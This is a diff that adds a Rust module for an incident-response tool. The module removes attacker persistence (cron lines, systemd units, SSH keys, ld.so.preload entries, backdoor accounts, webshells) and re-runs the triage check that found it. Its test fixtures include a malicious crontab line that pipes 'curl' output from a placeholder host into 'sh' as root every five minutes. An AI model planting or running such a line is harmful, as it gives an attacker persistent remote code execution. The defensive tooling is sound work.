@@ -1,0 +1,300 @@
+//! Eradication: remove exactly the foothold a triage finding names — the cron line, the systemd
+//! unit, the authorized_keys line, the ld.so.preload entry, the backdoor account, the webshell —
+//! then re-run the check that found it.
+//!
+//! What to do for each check is one table ([`remedy_for`]); adding a remedy touches only it.
+
+use crate::engine::Plan;
+use crate::target::Target;
+use crate::{Error, Result, step};
+use firewarden_model::action::{Risk, Step};
+use firewarden_model::{Finding, printable};
+use firewarden_triage::TriageOptions;
+
+/// How a finding's foothold is removed.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Remedy {
+    /// Remove the line the evidence names (crontabs, authorized_keys, rc files, profiles …);
+    /// evidence without a line (a cron script) is quarantined instead.
+    RemoveLine,
+    /// Move the file the evidence names into the vault.
+    Quarantine,
+    /// Stop and disable a systemd unit and quarantine its file.
+    SystemdUnit,
+    /// Remove the library from `/etc/ld.so.preload` and quarantine the library.
+    PreloadEntry,
+    /// Remove a backdoor account from `/etc/passwd` and `/etc/shadow`.
+    Account,
+}
+
+/// Which checks' findings can be eradicated, and how.
+pub const REMEDIES: &[(&str, Remedy)] = &[
+    ("linux.persistence.cron", Remedy::RemoveLine),
+    ("linux.ssh.authorized_keys", Remedy::RemoveLine),
+    ("linux.persistence.rc", Remedy::RemoveLine),
+    ("linux.persistence.shell_profile", Remedy::RemoveLine),
+    ("linux.persistence.inetd", Remedy::RemoveLine),
+    ("linux.persistence.udev", Remedy::RemoveLine),
+    ("linux.accounts.sudo", Remedy::RemoveLine),
+    ("linux.web.webshell", Remedy::Quarantine),
+    ("linux.files.malware", Remedy::Quarantine),
+    ("linux.files.rootkit_paths", Remedy::Quarantine),
+    ("linux.files.temp_dirs", Remedy::Quarantine),
+    ("linux.persistence.at", Remedy::Quarantine),
+    ("linux.persistence.autostart", Remedy::Quarantine),
+    ("linux.persistence.systemd", Remedy::SystemdUnit),
+    ("linux.persistence.ld_preload", Remedy::PreloadEntry),
+    ("linux.accounts.uid0", Remedy::Account),
+];
+
+/// The remedy for a check, or `None` when it has no automatic one.
+pub fn remedy_for(check: &str) -> Option<Remedy> {
+    REMEDIES.iter().find(|(c, _)| *c == check).map(|(_, r)| *r)
+}
+
+/// Finds the line a finding names: the recorded line number when it still says the same,
+/// else the one line that does (the file may have shifted since triage).
+fn locate_line(text: &str, line: Option<u64>, excerpt: &str) -> Option<usize> {
+    let lines: Vec<&str> = text.split_inclusive('\n').collect();
+    let same = |l: &str| {
+        let p = printable(l.trim_end_matches(['\n', '\r']), 300);
+        p == excerpt || (excerpt.ends_with('…') && p.starts_with(excerpt.trim_end_matches('…')))
+    };
+    if let Some(n) = line
+        && let Some(l) = lines.get((n as usize).wrapping_sub(1))
+        && same(l)
+    {
+        return Some(n as usize - 1);
+    }
+    let hits: Vec<usize> = (0..lines.len()).filter(|i| same(lines[*i])).collect();
+    (hits.len() == 1).then(|| hits[0])
+}
+
+fn without_line(text: &str, index: usize) -> String {
+    text.split_inclusive('\n')
+        .enumerate()
+        .filter(|(i, _)| *i != index)
+        .map(|(_, l)| l)
+        .collect()
+}
+
+/// Plans the eradication of one finding.
+pub fn plan(target: &Target, finding: &Finding) -> Result<Plan> {
+    let remedy = remedy_for(&finding.check).ok_or_else(|| {
+        Error::Refused(format!(
+            "{}: no automatic eradication for {} findings; by hand: {}",
+            finding.id, finding.check, finding.recommendation
+        ))
+    })?;
+    let ev = finding
+        .evidence
+        .iter()
+        .find(|e| e.path.is_some())
+        .ok_or_else(|| {
+            Error::Refused(format!(
+                "{}: the evidence names no file (a running process?): contain it with `contain process`",
+                finding.id
+            ))
+        })?;
+    let path = ev.path.clone().unwrap_or_default();
+    let mut plan = Plan::new(
+        "eradicate",
+        format!("Eradicate: {}", printable(&finding.title, 160)),
+        Risk::Medium,
+        target,
+    )
+    .for_finding(&finding.id, Some(finding.severity));
+    match remedy {
+        Remedy::RemoveLine if ev.line.is_none() => {
+            plan.quarantine(target, &path)?;
+        }
+        Remedy::RemoveLine => {
+            let excerpt = ev.excerpt.clone().unwrap_or_default();
+            let text = target
+                .text(&path)
+                .ok_or_else(|| Error::Refused(format!("{path}: cannot read it")))?;
+            let i = locate_line(&text, ev.line, &excerpt).ok_or_else(|| {
+                Error::Drift(format!(
+                    "{path}: line {} no longer says `{excerpt}` (changed since triage); run triage again",
+                    ev.line.unwrap_or(0)
+                ))
+            })?;
+            plan.edit(target, &path, without_line(&text, i).into_bytes())?;
+        }
+        Remedy::Quarantine => {
+            plan.quarantine(target, &path)?;
+        }
+        Remedy::SystemdUnit => systemd_unit(target, &path, &mut plan)?,
+        Remedy::PreloadEntry => {
+            let lib = ev.excerpt.clone().unwrap_or_default();
+            let text = target
+                .text(&path)
+                .ok_or_else(|| Error::Refused(format!("{path}: cannot read it")))?;
+            let new: String = text
+                .split_inclusive('\n')
+                .filter_map(|l| {
+                    let words: Vec<&str> = l
+                        .split([' ', '\t', ':', '\n'])
+                        .filter(|w| !w.is_empty())
+                        .collect();
+                    if !words.contains(&lib.as_str()) {
+                        return Some(l.to_string());
+                    }
+                    let rest: Vec<&str> = words.into_iter().filter(|w| *w != lib).collect();
+                    (!rest.is_empty()).then(|| format!("{}\n", rest.join(" ")))
+                })
+                .collect();
+            if new == text {
+                return Err(Error::Drift(format!("{path} no longer loads {lib}")));
+            }
+            plan.edit(target, &path, new.into_bytes())?;
+            if lib.starts_with('/') && target.exists(&lib) {
+                plan.quarantine(target, &lib)?;
+            }
+            plan.note("programs already running keep the library loaded: restart them (or reboot) once eradication is done");
+        }
+        Remedy::Account => {
+            plan.action.risk = Risk::High;
+            let name = ev
+                .excerpt
+                .as_deref()
+                .and_then(|e| e.split(':').next())
+                .filter(|n| !n.is_empty() && *n != "root")
+                .ok_or_else(|| {
+                    Error::Refused(format!("{}: no account name in the evidence", finding.id))
+                })?
+                .to_string();
+            for file in ["/etc/passwd", "/etc/shadow"] {
+                let Some(text) = target.text(file) else {
+                    continue;
+                };
+                let new: String = text
+                    .split_inclusive('\n')
+                    .filter(|l| l.split(':').next() != Some(name.as_str()))
+                    .collect();
+                plan.edit(target, file, new.into_bytes())?;
+            }
+            if plan.is_empty() {
+                return Err(Error::Drift(format!("account `{name}` is gone already")));
+            }
+            plan.note(format!(
+                "processes already running as `{name}` keep running: end them with `contain process` or `contain account` first"
+            ));
+        }
+    }
+    Ok(plan)
+}
+
+/// Stop (live), disable (remove the `wants`/`requires` links) and quarantine a unit file.
+fn systemd_unit(target: &Target, path: &str, plan: &mut Plan) -> Result<()> {
+    let unit = path.rsplit('/').next().unwrap_or_default().to_string();
+    if target.is_live() && step::systemd_running() {
+        plan.push(Step::StopUnit {
+            unit: unit.clone(),
+            was_active: step::unit_active(&unit),
+        });
+    } else {
+        plan.note("not a running systemd host: the unit is disabled and removed, not stopped");
+    }
+    for base in [
+        "/etc/systemd/system",
+        "/lib/systemd/system",
+        "/usr/lib/systemd/system",
+    ] {
+        let Ok(host) = target.host_path(base) else {
+            continue;
+        };
+        let Ok(dirs) = std::fs::read_dir(&host) else {
+            continue;
+        };
+        let mut links = Vec::new();
+        for d in dirs.flatten() {
+            let name = d.file_name().to_string_lossy().into_owned();
+            if !(name.ends_with(".wants") || name.ends_with(".requires")) {
+                continue;
+            }
+            let link = format!("{base}/{name}/{unit}");
+            if let Ok(h) = target.host_path(&link)
+                && let Ok(to) = std::fs::read_link(&h)
+            {
+                links.push((link, to.to_string_lossy().into_owned()));
+            }
+        }
+        links.sort();
+        for (link, to) in links {
+            plan.push(Step::Unlink {
+                path: link,
+                target: to,
+            });
+        }
+    }
+    plan.quarantine(target, path)?;
+    plan.note("run `systemctl daemon-reload` so systemd forgets the unit");
+    Ok(())
+}
+
+/// Re-runs the check behind a finding on the target: `Ok(true)` when the finding is gone.
+/// The detail says how many findings the check still reports.
+pub fn recheck(target: &Target, finding: &Finding) -> (bool, String) {
+    let opts = TriageOptions {
+        only: vec![finding.check.clone()],
+        min_severity: firewarden_model::Severity::Info,
+        threads: 1,
+        ..TriageOptions::default()
+    };
+    let report = firewarden_triage::run(target.source(), &opts, &|_| {});
+    let gone = !report.findings.iter().any(|f| f.id == finding.id);
+    let others = report.findings.len();
+    let detail = if gone {
+        format!(
+            "{} re-run: finding gone ({others} other finding(s) from this check remain)",
+            finding.check
+        )
+    } else {
+        format!("{} re-run: the finding is STILL reported", finding.check)
+    };
+    (gone, detail)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn locates_lines_that_moved() {
+        let text = "# m h dom\n*/5 * * * * root curl -s http://x | sh\n@reboot root /tmp/.x\n";
+        assert_eq!(
+            locate_line(text, Some(2), "*/5 * * * * root curl -s http://x | sh"),
+            Some(1)
+        );
+        // The first line was removed since triage: the line moved up.
+        let moved = "*/5 * * * * root curl -s http://x | sh\n@reboot root /tmp/.x\n";
+        assert_eq!(
+            locate_line(moved, Some(2), "*/5 * * * * root curl -s http://x | sh"),
+            Some(0)
+        );
+        assert_eq!(locate_line(moved, Some(2), "not there"), None);
+        // Two identical lines: ambiguous unless the recorded line number matches.
+        let twice = "a\na\n";
+        assert_eq!(locate_line(twice, None, "a"), None);
+        assert_eq!(locate_line(twice, Some(2), "a"), Some(1));
+    }
+
+    #[test]
+    fn removes_exactly_one_line_keeping_the_rest_byte_for_byte() {
+        let text = "one\r\ntwo\nthree";
+        assert_eq!(without_line(text, 1), "one\r\nthree");
+        assert_eq!(without_line(text, 2), "one\r\ntwo\n");
+    }
+
+    #[test]
+    fn every_remedy_names_a_real_check() {
+        let ids: Vec<&str> = firewarden_triage::catalogue()
+            .iter()
+            .map(|c| c.meta.id)
+            .collect();
+        for (check, _) in REMEDIES {
+            assert!(ids.contains(check), "{check} is not in the catalogue");
+        }
+    }
+}
